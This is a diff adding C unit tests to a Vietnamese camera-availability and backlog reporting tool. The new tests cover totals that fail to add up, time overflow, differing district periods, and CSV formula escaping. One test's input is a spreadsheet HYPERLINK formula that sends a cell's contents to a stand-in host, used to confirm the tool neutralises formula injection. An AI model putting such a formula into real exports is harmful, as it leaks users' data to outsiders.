@@ -587,6 +587,19 @@ static void test_a_closed_ticket_in_the_list_says_when_by_whom_and_what_was_done
 
 /* ---- the province ---- */
 
+/* Two districts' backlogs of the fixture's day: a.json (Lai Vung) and b.json, its copy named
+ * Sa Đéc. The caller frees *a and *b. */
+static void two_districts(struct fixture *fx, json_t **a, json_t **b, struct doc_district in[2])
+{
+    struct cw_err err = {0};
+
+    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, a, &err), 0);
+    *b = json_deep_copy(*a);
+    json_object_set_new(*b, "site", json_string("Sa Đéc"));
+    in[0] = (struct doc_district){"a.json", *a};
+    in[1] = (struct doc_district){"b.json", *b};
+}
+
 static void test_province_sums_districts_and_names_a_bad_field(void **state)
 {
     struct fixture *fx = *state;
@@ -594,11 +607,7 @@ static void test_province_sums_districts_and_names_a_bad_field(void **state)
     json_t *a = NULL, *b, *doc = NULL;
     struct doc_district in[2];
 
-    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &a, &err), 0);
-    b = json_deep_copy(a);
-    json_object_set_new(b, "site", json_string("Sa Đéc"));
-    in[0] = (struct doc_district){"a.json", a};
-    in[1] = (struct doc_district){"b.json", b};
+    two_districts(fx, &a, &b, in);
     assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
     assert_int_equal(json_array_size(json_object_get(doc, "districts")), 2);
     assert_int_equal(num(json_object_get(doc, "total"), "cost_vnd"), 2 * 5950000);
@@ -620,6 +629,74 @@ static void test_province_sums_districts_and_names_a_bad_field(void **state)
     assert_string_equal(err.field, "kind");
     json_decref(a);
     json_decref(b);
+}
+
+/* A district's file is summed twice: its total into the province's table I, its owners into
+ * table II, its kinds of work into table III. A file whose parts do not add up to its total
+ * (a figure edited by hand in one place) would make the province's tables disagree: it is
+ * refused, naming the file, the list and the figure. */
+static void test_province_refuses_a_district_whose_parts_do_not_add_up(void **state)
+{
+    struct fixture *fx = *state;
+    struct cw_err err = {0};
+    json_t *a = NULL, *b, *doc = NULL, *tot, *act;
+    struct doc_district in[2];
+    json_int_t cost;
+
+    two_districts(fx, &a, &b, in);
+    tot = json_object_get(b, "total");
+    cost = json_integer_value(json_object_get(tot, "cost_vnd"));
+    json_object_set_new(tot, "cost_vnd", json_integer(cost + 1000000));
+    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
+    assert_null(doc);
+    assert_string_equal(err.file, "b.json");
+    assert_string_equal(err.field, "owners");
+    assert_non_null(strstr(err.msg, "total.cost_vnd"));
+    json_object_set_new(tot, "cost_vnd", json_integer(cost));
+    /* a kind of work's count edited: the owners still add up, the kinds of work do not */
+    act = json_array_get(json_object_get(b, "by_action"), 0);
+    json_object_set_new(act, "count",
+                        json_integer(json_integer_value(json_object_get(act, "count")) + 1));
+    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
+    assert_string_equal(err.file, "b.json");
+    assert_string_equal(err.field, "by_action");
+    assert_non_null(strstr(err.msg, "total.actions"));
+    json_object_set_new(act, "count",
+                        json_integer(json_integer_value(json_object_get(act, "count")) - 1));
+    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0); /* as sent: taken */
+    json_decref(doc);
+    json_decref(a);
+    json_decref(b);
+}
+
+/* Time figures are checked one by one against a bound; their sum over districts is checked
+ * too, never left to wrap (five districts each just under the bound). */
+static void test_province_refuses_times_whose_sum_would_overflow(void **state)
+{
+    struct fixture *fx = *state;
+    struct cw_err err = {0};
+    json_t *a = NULL, *docs[5], *doc = NULL, *av;
+    struct doc_district in[5];
+    static const char *const sites[] = {"A", "B", "C", "D", "E"};
+    static const char *const files[] = {"a.json", "b.json", "c.json", "d.json", "e.json"};
+
+    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &a, &err), 0);
+    for (size_t i = 0; i < 5; i++) {
+        docs[i] = json_deep_copy(a);
+        json_object_set_new(docs[i], "site", json_string(sites[i]));
+        av = json_object_get(json_object_get(docs[i], "availability"), "total");
+        json_object_set_new(av, "monitored_ms", json_integer(INT64_MAX / 4));
+        json_object_set_new(json_object_get(av, "ms"), "up", json_integer(INT64_MAX / 4));
+        json_object_set_new(json_object_get(av, "ms"), "degraded", json_integer(0));
+        in[i] = (struct doc_district){files[i], docs[i]};
+    }
+    assert_int_equal(doc_province(&fx->c, in, 5, T1, &doc, &err), DOC_BAD_INPUT);
+    assert_null(doc);
+    assert_string_equal(err.field, "availability.total.monitored_ms");
+    assert_non_null(strstr(err.msg, "too large"));
+    for (size_t i = 0; i < 5; i++)
+        json_decref(docs[i]);
+    json_decref(a);
 }
 
 /* ---- rendering ---- */
@@ -671,6 +748,92 @@ static void test_csv_and_html_carry_the_figures_in_vietnamese(void **state)
     free(html);
     free(en);
     json_decref(doc);
+}
+
+/* Names are what users typed (cameras.csv, tickets) or what a camera answered: a CSV cell
+ * opening with = + - @ (or a tab, a CR) is a formula to Excel and LibreOffice, which run it
+ * (HYPERLINK sends the sheet's cells away). Such a cell is written with a leading apostrophe,
+ * shown as text; numbers and other texts are left as they are. */
+static void test_csv_cells_that_would_be_formulas_are_text(void **state)
+{
+    struct fixture *fx = *state;
+    static const char *const names[] = {"=HYPERLINK(\"http://x.example/?\"&C3,\"Ngã ba\")",
+                                        "+84 cổng chợ", "-1+1", "@SUM(A1:A9)", "\tTab"};
+    static const char *const want[] = {
+        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&C3,\"\"Ngã ba\"\")\"", "\"'+84 cổng chợ\"",
+        "\"'-1+1\"", "\"'@SUM(A1:A9)\"", "\"'\tTab\""};
+    struct cw_err err = {0};
+    json_t *doc = NULL, *cam;
+    char *csv;
+    size_t i;
+
+    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
+    assert_true(json_array_size(json_object_get(doc, "cameras")) >= 4);
+    json_array_foreach(json_object_get(doc, "cameras"), i, cam)
+    {
+        if (i < 4)
+            json_object_set_new(cam, "name", json_string(names[i]));
+    }
+    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "commune",
+                        json_string(names[4]));
+    csv = render(doc, REPORT_CSV, REPORT_VI);
+    for (i = 0; i < 5; i++)
+        if (strstr(csv, want[i]) == NULL)
+            fail_msg("no %s in\n%s", want[i], csv);
+    assert_null(strstr(csv, "\"=HYPERLINK"));
+    assert_non_null(strstr(csv, "\"100,00\""));                 /* numbers stay numbers */
+    assert_non_null(strstr(csv, "\"Công an huyện Lai Vung\"")); /* other texts as they are */
+    json_decref(doc);
+    doc = NULL;
+    /* a lone "-" is no formula: a retired camera's state cell stays as the other formats say */
+    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
+    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "retired", json_true());
+    free(csv);
+    csv = render(doc, REPORT_CSV, REPORT_VI);
+    assert_non_null(strstr(csv, "\"-\"\r\n"));
+    assert_null(strstr(csv, "\"'-\""));
+    free(csv);
+    json_decref(doc);
+}
+
+/* Districts that sent different periods (one a week of last month, one this month to now)
+ * are summed, but the province's page and workbook say so and give each district's period:
+ * the heading's period, from the first start to the last end, covers none of them alone. */
+static void test_province_names_each_districts_period_when_they_differ(void **state)
+{
+    struct fixture *fx = *state;
+    struct cw_err err = {0};
+    json_t *a = NULL, *b, *doc = NULL;
+    struct doc_district in[2];
+    char *html, *en;
+
+    two_districts(fx, &a, &b, in);
+    /* one period: no note */
+    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
+    html = render(doc, REPORT_HTML, REPORT_VI);
+    assert_null(strstr(html, "không trùng nhau"));
+    free(html);
+    json_decref(doc);
+    /* Sa Đéc sent 2026-11-24 .. 2026-11-26 12:30 */
+    json_object_set_new(b, "from", json_string("2026-11-24T00:00:00+00:00"));
+    json_object_set_new(b, "from_ms", json_integer(T0 - 7 * 24 * H));
+    json_object_set_new(b, "to", json_string("2026-11-26T12:30:00+00:00"));
+    json_object_set_new(b, "to_ms", json_integer(T0 - 5 * 24 * H + 12 * H + 30 * MIN));
+    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
+    html = render(doc, REPORT_HTML, REPORT_VI);
+    if (strstr(html, "Kỳ báo cáo của các địa phương không trùng nhau: Lai Vung từ ngày "
+                     "01/12/2026 đến hết ngày 01/12/2026; Sa Đéc từ ngày 24/11/2026 đến "
+                     "12:30 ngày 26/11/2026.") == NULL)
+        fail_msg("no periods in\n%s", html);
+    en = render(doc, REPORT_HTML, REPORT_EN);
+    if (strstr(en, "The districts' periods differ: Lai Vung from 2026-12-01 to the end of "
+                   "2026-12-01; Sa Đéc from 2026-11-24 to 2026-11-26 12:30.") == NULL)
+        fail_msg("no periods in\n%s", en);
+    free(html);
+    free(en);
+    json_decref(doc);
+    json_decref(a);
+    json_decref(b);
 }
 
 /* The line of the CSV (up to its CRLF) whose first fields are rank and id; NULL if none.
@@ -866,7 +1029,11 @@ int main(void)
         T(test_a_closed_ticket_in_the_list_says_when_by_whom_and_what_was_done),
         T(test_ticket_texts_with_control_characters_are_refused),
         T(test_province_sums_districts_and_names_a_bad_field),
+        T(test_province_names_each_districts_period_when_they_differ),
+        T(test_province_refuses_times_whose_sum_would_overflow),
+        T(test_province_refuses_a_district_whose_parts_do_not_add_up),
         T(test_csv_and_html_carry_the_figures_in_vietnamese),
+        T(test_csv_cells_that_would_be_formulas_are_text),
         T(test_backlog_unpriced_cost_is_no_price_not_zero),
         T(test_cost_chart_leaves_out_unpriced_work_and_says_so),
         T(test_backlog_priority_cell_is_one_line),
